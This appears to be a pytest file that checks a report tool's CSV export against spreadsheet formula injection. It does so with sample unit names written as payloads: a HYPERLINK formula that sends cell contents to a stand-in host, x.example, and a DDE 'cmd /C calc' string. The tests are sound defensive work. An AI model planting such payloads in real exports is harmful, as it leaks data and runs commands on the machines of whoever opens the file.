"""Issue #12, what we write for others to open: CSV formula injection (7)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from builders import make_session

from facilitator.domain.models import Unit
from facilitator.export.csv_writer import neutralise_cell, render_report_csv
from facilitator.export.report_model import build_report

COMMUNE = Unit(name="Đảng bộ xã Di Linh", parent="Huyện ủy Di Linh", profile="party")
HOSTILE_UNITS = ('=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1)",
                 "-2+3")  # fmt: skip


def _csv_rows(units: tuple[str, ...]) -> list[list[str]]:
    sessions = [
        make_session(id=f"b{i}", unit=Unit(name=name, parent=COMMUNE.name))
        for i, name in enumerate(units)
    ]
    report = build_report(sessions, unit=COMMUNE, issued_on=date(2024, 6, 3))
    data = render_report_csv(report)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formula_unit_names_are_plain_text_in_the_csv() -> None:
    _, *units, total = _csv_rows(HOSTILE_UNITS)
    names = sorted(row[1] for row in units)
    assert names == sorted("'" + name for name in HOSTILE_UNITS)
    for row in (*units, total):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not cell[1:].replace(",", "").isdigit()), cell
    # The numbers stay numbers: the spreadsheet can still add them up.
    assert total[1] == "Tổng cộng"
    assert all(total[c].isdigit() for c in (2, 3, 4, 5, 6))
    assert total[7].endswith("%") and not total[7].startswith("'")


@pytest.mark.parametrize("plain", ["-5", "-3,5", "+7", "85,19%", "-12.345", "10/05/2024", "2024-05-10",
                                   "Chi bộ 1", "", "Nguyễn Văn An"])  # fmt: skip
def test_plain_numbers_dates_and_text_are_kept(plain: str) -> None:
    assert neutralise_cell(plain) == plain


@pytest.mark.parametrize(
    "formula", ["=1+1", "-2+3", "+cmd", "@SUM(1)", "\t=1", "\r=1", "-A1", "=-5"]
)
def test_formulas_get_an_apostrophe(formula: str) -> None:
    assert neutralise_cell(formula) == "'" + formula
